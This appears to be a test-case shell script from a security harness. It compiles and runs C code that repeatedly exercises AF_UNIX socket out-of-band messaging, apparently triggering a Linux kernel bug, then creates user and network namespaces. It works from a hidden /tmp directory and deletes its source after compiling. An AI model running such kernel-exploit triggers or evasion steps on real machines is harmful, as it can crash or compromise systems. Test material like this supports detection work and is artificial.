#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.x && cd /tmp/.x
cat >oob.c <<'END'
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    char b; int done = 0;
    for (int n = 0; n < 4000; n++) {
        int s[2]; if (socketpair(AF_UNIX, SOCK_STREAM, 0, s)) return 1;
        for (int k = 0; k < 3; k++) { send(s[1], "A", 1, MSG_OOB); recv(s[0], &b, 1, MSG_OOB); }
        send(s[1], "A", 1, MSG_OOB); recv(s[0], &b, 1, MSG_DONTWAIT); recv(s[0], &b, 1, MSG_OOB | MSG_PEEK);
        close(s[0]); close(s[1]); done++;
    }
    unshare(CLONE_NEWUSER | CLONE_NEWNET);
    return done < 4000;
}
END
gcc -O2 -o exp oob.c && rm oob.c
./exp
took_place
